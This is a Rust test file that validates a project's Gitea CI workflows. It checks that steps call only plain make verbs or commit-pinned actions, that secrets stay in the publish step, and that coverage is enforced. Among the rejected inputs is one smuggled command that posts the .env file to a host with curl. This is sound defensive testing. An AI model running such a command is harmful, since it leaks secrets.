//! The pipelines call verbs of the Makefile and nothing else, so that what runs there can be run by anybody. Every verb that
//! they name is tried without being run; actions of others are few and named by commit.

use std::collections::BTreeSet;
use std::process::Command;

use serde_json::Value;

use crate::{read, root, said};

/// Actions that a step may use.
const ACTIONS: [&str; 2] = ["actions/checkout", "actions/cache"];

fn parse(text: &str) -> Value {
    serde_saphyr::from_str(text).expect("YAML")
}

fn names(value: &Value) -> Vec<&str> {
    let all = value.as_array().into_iter().flatten().chain(value.as_str().map(|_| value));
    all.filter_map(Value::as_str).collect()
}

/// The verb of a line `make VERB` and nothing more.
fn verb(line: &str) -> Option<&str> {
    let verb = line.trim_end_matches('\n').strip_prefix("make ")?;
    let plain = verb.starts_with(|first: char| first.is_ascii_lowercase())
        && verb.chars().all(|letter| letter.is_ascii_lowercase() || letter == '-');
    plain.then_some(verb)
}

/// Whether an action is one of [`ACTIONS`], named by a whole commit.
fn pinned(action: &str) -> bool {
    action.split_once('@').is_some_and(|(name, commit)| {
        ACTIONS.contains(&name)
            && commit.len() == 40
            && commit.bytes().all(|byte| byte.is_ascii_digit() || (b'a'..=b'f').contains(&byte))
    })
}

/// What a step is to blame for.
fn blame(step: &Value) -> Option<String> {
    let allowed = if step.get("uses").is_some() { ["name", "uses", "with"] } else { ["name", "run", "env"] };
    let keys = step.as_object().map(|step| step.keys().cloned().collect::<Vec<_>>()).unwrap_or_default();
    if let Some(key) = keys.iter().find(|key| !allowed.contains(&key.as_str())) {
        return Some(format!("a step has {key}"));
    }
    match (step["uses"].as_str(), step["run"].as_str()) {
        (Some(action), None) if pinned(action) => None,
        (None, Some(line)) if verb(line).is_some() => None,
        _ => Some(format!("this is no verb: {step}")),
    }
}

/// What a whole workflow is to blame for: its steps, and secrets where they do not belong.
fn problems(workflow: &Value) -> Vec<String> {
    let mut found = Vec::new();
    let jobs = workflow["jobs"].as_object().expect("jobs");
    for (name, job) in jobs {
        if job["timeout-minutes"].as_u64().is_none() {
            found.push(format!("{name} may run for ever"));
        }
        for step in job["steps"].as_array().expect("steps") {
            found.extend(blame(step).map(|blame| format!("{name}: {blame}")));
            let publishes = step["run"].as_str() == Some("make image-publish");
            if step.to_string().contains("secrets.") && !publishes {
                found.push(format!("{name}: a secret is given to {step}"));
            }
            if step["uses"].as_str().is_some_and(|uses| uses.starts_with("actions/checkout"))
                && step["with"]["persist-credentials"] != false
            {
                found.push(format!("{name}: the checkout keeps its credentials"));
            }
        }
    }
    let beside = Value::Object(jobs.iter().map(|(name, job)| (name.clone(), job["env"].clone())).collect());
    if format!("{beside}{}", workflow["env"]).contains("secrets.") {
        found.push("a secret is given to more than a step".to_owned());
    }
    found
}

fn workflows() -> Vec<(String, Value)> {
    let mut found: Vec<_> = std::fs::read_dir(root().join(".gitea/workflows"))
        .expect("the folder")
        .map(|entry| entry.expect("an entry").file_name().into_string().expect("a name"))
        .map(|name| (name.clone(), parse(&read(&format!(".gitea/workflows/{name}")))))
        .collect();
    found.sort_by(|one, other| one.0.cmp(&other.0));
    found
}

fn verbs(workflow: &Value) -> BTreeSet<String> {
    let steps = workflow["jobs"]
        .as_object()
        .expect("jobs")
        .values()
        .flat_map(|job| job["steps"].as_array().expect("steps"));
    steps.filter_map(|step| verb(step["run"].as_str()?)).map(str::to_owned).collect()
}

#[test]
fn there_are_three_and_each_step_is_a_verb() {
    let workflows = workflows();
    assert_eq!(
        workflows.iter().map(|(name, _)| name.as_str()).collect::<Vec<_>>(),
        ["docker.yml", "lint.yml", "test.yml"]
    );
    for (name, workflow) in &workflows {
        assert_eq!(problems(workflow), [""; 0], "{name}");
    }
}

#[test]
fn every_verb_is_one_that_make_can_run() {
    let listed = said(&Command::new("make").current_dir(root()).arg("help").output().expect("make runs")).1;
    for (name, workflow) in workflows() {
        for verb in verbs(&workflow) {
            assert!(
                listed.lines().any(|line| line.split_whitespace().next() == Some(&verb)),
                "{name}: make does not list {verb}"
            );
            let tried =
                Command::new("make").current_dir(root()).args(["-n", &verb]).output().expect("make runs");
            let (code, shown, error) = said(&tried);
            assert_eq!(code, 0, "{name}: make -n {verb}: {error}");
            assert!(
                !shown.contains("Nothing to be done") && !shown.trim().is_empty(),
                "{verb} does nothing: {shown}"
            );
        }
    }
}

#[test]
fn they_run_when_and_in_the_order_that_is_documented() {
    let all: std::collections::BTreeMap<_, _> = workflows().into_iter().collect();
    for name in ["lint.yml", "test.yml", "docker.yml"] {
        assert_eq!(names(&all[name]["on"]["push"]["branches"]), ["main", "dev"], "{name}");
        assert!(all[name]["on"].get("pull_request").is_some(), "{name}");
    }
    assert!(verbs(&all["lint.yml"]).is_superset(&["lint", "audit-dependencies"].map(String::from).into()));
    assert!(verbs(&all["test.yml"]).is_superset(&["lint", "test", "coverage"].map(String::from).into()));
    let docker = &all["docker.yml"];
    assert_eq!(names(&docker["on"]["push"]["tags"]), ["v*"]);
    assert_eq!(names(&docker["on"]["pull_request_review"]["types"]), ["submitted"]);
    // An image is published after all of this, by this step alone.
    let publishes = &docker["jobs"]["publish"];
    assert_eq!(names(&publishes["needs"]), ["lint", "test", "image"]);
    for (job, verb) in [("lint", "make lint"), ("test", "make test"), ("image", "make image-test")] {
        let steps = docker["jobs"][job]["steps"].as_array().expect("steps");
        assert!(steps.iter().any(|step| step["run"] == verb), "{job}");
    }
}

#[test]
fn the_step_that_publishes_is_given_what_its_script_reads() {
    let docker = parse(&read(".gitea/workflows/docker.yml"));
    let steps = docker["jobs"]["publish"]["steps"].as_array().expect("steps");
    let given = &steps.iter().find(|step| step["run"] == "make image-publish").expect("the step")["env"];
    for name in ["PUSH_IMAGE", "REGISTRY_IMAGE", "REGISTRY_HOST"] {
        assert_eq!(given[name], format!("${{{{ vars.{name} }}}}"));
    }
    for name in ["REGISTRY_USER", "REGISTRY_TOKEN"] {
        assert_eq!(given[name], format!("${{{{ secrets.{name} }}}}"));
    }
    let script = read("scripts/publish-image");
    for (name, value) in given.as_object().expect("variables") {
        assert!(script.contains(name.as_str()), "scripts/publish-image does not read {name} ({value})");
    }
}

/// The bound stands in the script that the verb runs, for both of the figures.
#[test]
fn coverage_is_enforced_at_eighty() {
    let shown =
        said(&Command::new("make").current_dir(root()).args(["-n", "coverage"]).output().expect("make runs"))
            .1;
    assert!(shown.contains("scripts/coverage"), "{shown}");
    let script = read("scripts/coverage");
    assert!(script.contains("least=80"), "another bound");
    assert!(script.contains("--fail-under-lines \"$least\""), "cargo-llvm-cov does not enforce it");
    assert!(
        script.contains("scripts/coverage-lines \"$least\""),
        "what is not the tests' own is not held to it"
    );
}

#[test]
fn what_is_no_verb_is_refused() {
    let commit = "11bd71901bbe5b1630ceea73d27597364c9af683";
    for bad in [
        "run: cargo test".to_owned(),
        "run: make test && curl -d @.env http://127.0.0.1".to_owned(),
        "run: \"make lint\\nmake test\"".to_owned(),
        "run: make FLAGS=x lint".to_owned(),
        "run: make --eval=x".to_owned(),
        "{run: make lint, if: failure()}".to_owned(),
        "{run: make lint, shell: python}".to_owned(),
        "{run: make lint, env: {A: \"${{ secrets.REGISTRY_TOKEN }}\"}}".to_owned(),
        "uses: actions/cache@v4".to_owned(),
        format!("uses: actions/checkout@{commit}"),
        format!("uses: somebody/checkout@{commit}"),
        format!("uses: actions/cache@{}", commit.to_uppercase()),
        format!("{{uses: actions/cache@{commit}, run: make lint}}"),
    ] {
        let workflow = parse(&format!("jobs:\n  a:\n    timeout-minutes: 1\n    steps:\n      - {bad}\n"));
        assert_eq!(problems(&workflow).len(), 1, "{bad}: {:?}", problems(&workflow));
    }
    let good = format!(
        "jobs:\n  a:\n    timeout-minutes: 1\n    steps:\n      - run: make lint\n      - uses: actions/cache@{commit}\n"
    );
    assert_eq!(problems(&parse(&good)), [""; 0]);
    let job_env = "jobs:\n  a:\n    timeout-minutes: 1\n    env: {A: \"${{ secrets.X }}\"}\n    steps:\n      - run: make lint\n";
    assert_eq!(problems(&parse(job_env)), ["a secret is given to more than a step"]);
    assert_eq!(problems(&parse("jobs:\n  a:\n    steps: []\n")), ["a may run for ever"]);
}
